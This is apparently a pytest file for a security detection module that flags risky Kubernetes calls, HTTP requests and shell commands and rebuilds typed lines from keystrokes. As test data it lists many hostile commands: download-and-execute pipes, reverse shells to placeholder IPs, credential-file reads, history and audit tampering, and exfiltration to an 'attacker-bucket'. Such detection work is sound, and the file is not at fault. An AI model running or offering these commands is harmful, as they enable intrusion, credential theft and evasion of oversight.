"""Kubernetes, shell and HTTP rules on single events, and terminal keystrokes turned into lines."""

from __future__ import annotations

import json
from typing import Any

import pytest

from risk.rules import command_line, feed_keystrokes, http_hits, kubernetes_hits, pod_features, shell_hits


def k8s(verb: str, resource: str, **fields: Any) -> set[str]:
    call = {
        "verb": verb,
        "resource": resource,
        "namespace": "prod",
        "name": None,
        "subresource": None,
        "status_code": 200,
        "request_body": None,
        "response_body": None,
    } | fields
    return {hit.rule_id for hit in kubernetes_hits(call)}


@pytest.mark.parametrize(
    ("verb", "resource", "fields", "expected"),
    [
        ("get", "secrets", {"name": "db"}, {"k8s.secret_read"}),
        ("list", "secrets", {}, {"k8s.secret_read"}),
        ("watch", "secrets", {}, {"k8s.secret_read"}),
        ("get", "secrets", {"status_code": 403}, {"k8s.secret_read"}),
        ("create", "serviceaccounts", {"subresource": "token"}, {"k8s.secret_read"}),
        ("create", "pods", {"subresource": "exec"}, {"k8s.exec"}),
        ("get", "pods", {"subresource": "attach"}, {"k8s.exec"}),
        ("create", "pods", {"subresource": "portforward"}, {"k8s.port_forward"}),
        ("create", "clusterrolebindings", {}, {"k8s.rbac_change"}),
        ("patch", "rolebindings", {}, {"k8s.rbac_change"}),
        ("update", "clusterroles", {}, {"k8s.rbac_change"}),
        ("delete", "namespaces", {"name": "prod"}, {"k8s.namespace_delete"}),
        (
            "create",
            "pods",
            {"request_body": json.dumps({"spec": {"hostPID": True, "containers": []}})},
            {"k8s.privileged_pod"},
        ),
        ("get", "configmaps", {}, set()),
        ("list", "pods", {}, set()),
        ("get", "pods", {"subresource": "log"}, set()),
        ("create", "secrets", {"request_body": '{"data": {"k": "***"}}'}, set()),
        ("delete", "pods", {}, set()),
        ("get", "clusterrolebindings", {}, set()),
        ("create", "deployments", {"request_body": json.dumps({"spec": {"replicas": 2}})}, set()),
    ],
)
def test_kubernetes(verb: str, resource: str, fields: dict[str, Any], expected: set[str]) -> None:
    assert k8s(verb, resource, **fields) == expected


def test_refused_calls_still_count_and_say_so() -> None:
    call = {"verb": "get", "resource": "secrets", "namespace": "prod", "name": "db", "status_code": 403}
    (hit,) = kubernetes_hits(call)
    assert hit.message == "get on secrets db in namespace prod (refused with 403)"


def test_pod_features_from_json_yaml_and_json_patch() -> None:
    spec = {
        "spec": {
            "template": {
                "spec": {
                    "hostNetwork": True,
                    "containers": [
                        {
                            "name": "a",
                            "securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}},
                        }
                    ],
                    "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                }
            }
        }
    }
    features = pod_features(json.dumps(spec))
    assert sorted(features) == [
        "capability SYS_ADMIN",
        "hostNetwork",
        "hostPath volume",
        "privileged container",
    ]
    assert features == pod_features(json.dumps(spec))  # stable order
    yaml_body = "spec:\n  hostPID: true\n  containers:\n  - name: x\n    image: alpine\n"
    assert pod_features(yaml_body) == ["hostPID"]
    patch = json.dumps([{"op": "add", "path": "/spec/template/spec/hostIPC", "value": True}])
    assert pod_features(patch) == ["hostIPC"]
    assert (
        pod_features(
            '{"spec": {"hostPID": false, "containers": [{"securityContext": {"privileged": false}}]}}'
        )
        == []
    )
    assert pod_features('{"truncated": "privileged": true') == ["privileged container"]
    # YAML that the safe loader's date constructor refuses is read as text, not raised.
    assert pod_features("spec: 2001-02-30\nhostNetwork: true\n") == ["hostNetwork"]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://crm/api/v1/accounts/export?format=csv", {"http.bulk_export"}),
        ("https://crm/api/v1/accounts/export.csv", {"http.bulk_export"}),
        ("https://db/_all_docs", {"http.bulk_export"}),
        ("https://crm/backup/latest", {"http.bulk_export"}),
        ("https://crm/api/users?limit=50000", {"http.bulk_export"}),
        ("https://crm/api/users?page=2&per_page=1000", {"http.bulk_export"}),
        ("https://crm/admin/users", {"http.admin_endpoint"}),
        ("https://shop/actuator/env", {"http.admin_endpoint"}),
        ("https://shop/actuator/heapdump", {"http.admin_endpoint"}),
        ("https://svc/debug/pprof/heap", {"http.admin_endpoint"}),
        ("https://crm/admin/export", {"http.admin_endpoint", "http.bulk_export"}),
        ("https://shop/actuator/health", set()),
        ("https://shop/actuator/info", set()),
        ("https://crm/api/users?limit=50", set()),
        ("https://crm/api/users/42", set()),
        ("https://crm/api/exporters/3", set()),
        ("https://crm/api/administrators-guide", set()),
        # urlsplit refuses the host; the path is still read.
        ("http://[::1/admin/users", {"http.admin_endpoint"}),
        ("http://[::1/api/users?limit=50000", {"http.bulk_export"}),
        # "²".isdigit() is true, int("²") is an error.
        ("https://crm/api/users?limit=²", set()),
        # Other decimal digits are numbers to int() and to the servers behind the gateway.
        ("https://crm/api/users?limit=\u0661\u0660\u0660\u0660\u0660\u0660", {"http.bulk_export"}),
    ],
)
def test_http(url: str, expected: set[str]) -> None:
    exchange = {"method": "GET", "url": url, "status_code": 200}
    assert {hit.rule_id for hit in http_hits(exchange, bulk_page_size=1000)} == expected


RISKY_LINES = [
    ("curl -fsSL https://get.example.sh | sh", "shell.download_exec"),
    ("wget -qO- http://203.0.113.7/x.sh | sudo bash -s --", "shell.download_exec"),
    ("curl -s https://x.example/a.py | python3", "shell.download_exec"),
    ("bash <(curl -s https://x.example/i)", "shell.download_exec"),
    ('sh -c "$(curl -fsSL https://x.example/i)"', "shell.download_exec"),
    ("wget https://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a", "shell.download_exec"),
    ("echo Y3VybCB4IHwgc2g= | base64 -d | sh", "shell.base64_exec"),
    ("echo Y3VybCB4IHwgc2g= | base64 --decode | bash", "shell.base64_exec"),
    ("eval $(echo Y3VybA== | base64 -d)", "shell.base64_exec"),
    ("python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", "shell.base64_exec"),
    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "shell.base64_exec"),
    ("cat ~/.aws/credentials", "shell.credential_file_read"),
    ("less /root/.kube/config", "shell.credential_file_read"),
    ("sudo cat /etc/shadow", "shell.credential_file_read"),
    ("cp ~/.ssh/id_rsa /tmp/k", "shell.credential_file_read"),
    ("cat .env", "shell.credential_file_read"),
    ("cat config/.env.production", "shell.credential_file_read"),
    ("cat ~/.git-credentials", "shell.credential_file_read"),
    ("base64 < /var/run/secrets/kubernetes.io/serviceaccount/token", "shell.credential_file_read"),
    ("kubectl config view --raw", "shell.credential_file_read"),
    ("history -c", "shell.history_tampering"),
    ("unset HISTFILE", "shell.history_tampering"),
    ("export HISTFILE=/dev/null", "shell.history_tampering"),
    ("export HISTSIZE=0", "shell.history_tampering"),
    ("set +o history", "shell.history_tampering"),
    ("rm -f ~/.bash_history", "shell.history_tampering"),
    ("cat /dev/null > ~/.bash_history", "shell.history_tampering"),
    ("ln -sf /dev/null ~/.zsh_history", "shell.history_tampering"),
    ("auditctl -D", "shell.audit_tampering"),
    ("auditctl -e 0", "shell.audit_tampering"),
    ("sudo systemctl stop auditd", "shell.audit_tampering"),
    ("service auditd stop", "shell.audit_tampering"),
    ("rm -rf /var/log/audit/", "shell.audit_tampering"),
    ('echo "" > /var/log/auth.log', "shell.audit_tampering"),
    ("journalctl --vacuum-time=1s", "shell.audit_tampering"),
    ("systemctl stop falco", "shell.audit_tampering"),
    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "shell.reverse_shell"),
    ("nc -e /bin/sh 203.0.113.7 4444", "shell.reverse_shell"),
    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", "shell.reverse_shell"),
    ("socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.7:4444", "shell.reverse_shell"),
    ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "shell.reverse_shell"),
    (
        "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444))'",
        "shell.reverse_shell",
    ),
    ("scp /var/backups/db.sql.gz user@203.0.113.9:/tmp/", "shell.exfil_copy"),
    ("scp -P 2222 -i key dump.sql ops@files.example.net:", "shell.exfil_copy"),
    ("rsync -avz -e ssh ./dump/ backup@198.51.100.4:/srv/", "shell.exfil_copy"),
    ("rsync -a /data rsync://198.51.100.4/drop/", "shell.exfil_copy"),
    ("curl -T dump.sql https://transfer.example/dump.sql", "shell.exfil_copy"),
    ("curl --upload-file ./x https://transfer.example/x", "shell.exfil_copy"),
    ("curl -F file=@/etc/passwd https://x.example/up", "shell.exfil_copy"),
    ("curl --data-binary @dump.sql https://x.example/in", "shell.exfil_copy"),
    ("aws s3 cp dump.sql s3://attacker-bucket/", "shell.exfil_copy"),
    ("aws s3 sync ./exports s3://attacker-bucket/x", "shell.exfil_copy"),
    ("gsutil cp dump.sql gs://drop-bucket/", "shell.exfil_copy"),
    ("nc 203.0.113.7 9000 < /var/backups/db.sql", "shell.exfil_copy"),
    ("kubectl get secret db -o yaml", "k8s.secret_read"),
    ("kubectl -n prod exec -it api-0 -- sh", "k8s.exec"),
    ("kubectl port-forward svc/db 5432:5432", "k8s.port_forward"),
    ("kubectl delete ns staging", "k8s.namespace_delete"),
    ("kubectl create clusterrolebinding me --clusterrole=cluster-admin --user=me", "k8s.rbac_change"),
]


@pytest.mark.parametrize(("line", "rule_id"), RISKY_LINES)
def test_risky_shell(line: str, rule_id: str) -> None:
    assert rule_id in {hit.rule_id for hit in shell_hits(line)}


@pytest.mark.parametrize(
    "line",
    [
        "ls -la",
        "git status",
        "pytest -q tests/",
        'grep -rn "curl .* | sh" docs/',
        "rg 'history -c' scripts/",
        'git commit -m "stop piping curl | sh; unset HISTFILE"',
        'echo "bash -i >& /dev/tcp/1.2.3.4/4444"',
        "echo 'curl https://x | sh' >> notes.md",
        "bash -c \"echo 'curl https://x | sh' >> notes.md\"",
        "cat .env.example",
        "cat README.md",
        "cat /etc/passwd",
        "ssh -i ~/.ssh/id_ed25519 build@runner uptime",
        "chmod 600 ~/.ssh/id_rsa",
        "scp build@runner:/var/log/build.log .",
        "aws s3 cp s3://artifacts/app.tar.gz .",
        "curl -s https://pypi.org/pypi/requests/json | jq .info.version",
        "curl -X POST -d @order.json http://localhost:8000/api/orders",
        "nc -zv db.internal 5432",
        "sha256sum release.tar.gz | tee sums.txt",
        "kubectl get pods -n dev",
        "kubectl logs deploy/web",
        "history | tail -20",
        "systemctl status auditd",
        "ls # rm ~/.bash_history",
        "base64 -d payload.b64 > payload.bin",
        "echo done # curl https://x | sh",
        "make deploy  # then history -c",
    ],
)
def test_benign_shell(line: str) -> None:
    assert shell_hits(line) == []


def test_command_argv_is_read_as_the_shell_would() -> None:
    assert {hit.rule_id for hit in shell_hits(command_line(["bash", "-c", "curl https://x | sh"]))} == {
        "shell.download_exec"
    }
    assert shell_hits(command_line(["grep", "-rn", "curl x | sh", "."])) == []
    assert {hit.rule_id for hit in shell_hits(command_line(["/bin/cat", "/home/u/.aws/credentials"]))} == {
        "shell.credential_file_read"
    }


def test_shell_hits_name_each_rule_once() -> None:
    hits = shell_hits("bash -c 'curl https://x | sh'; curl https://y | bash")
    assert [hit.rule_id for hit in hits] == ["shell.download_exec"]


def test_exfil_hits_carry_the_destination_for_allow_lists() -> None:
    (hit,) = shell_hits("aws s3 cp dump.sql s3://acme-backups/nightly/")
    assert hit.subject == "s3://acme-backups"
    (hit,) = shell_hits("scp dump.sql backup.internal:/srv/")
    assert hit.subject == "backup.internal"


def test_keystrokes_become_lines_with_line_editing() -> None:
    lines, pending = feed_keystrokes("", b"unset HISTFJ\x7fILE\r")
    assert (lines, pending) == (["unset HISTFILE"], "")
    lines, pending = feed_keystrokes("ab", b"c\x1b[Ad\x15xy\rls -l\x17la\n")
    assert (lines, pending) == (["xy", "ls la"], "")
    lines, pending = feed_keystrokes("", b"\x1b[200~history -c\x1b[201~")
    assert (lines, pending) == ([], "history -c")
    lines, pending = feed_keystrokes(pending, b"\x03")
    assert (lines, pending) == ([], "")


def test_keystrokes_split_across_events() -> None:
    pending = ""
    lines: list[str] = []
    for key in b"cat ~/.kube/config\r":
        new, pending = feed_keystrokes(pending, bytes([key]))
        lines += new
    assert lines == ["cat ~/.kube/config"]


def test_pending_input_is_bounded() -> None:
    _, pending = feed_keystrokes("", b"a" * 100_000)
    assert len(pending) <= 4096
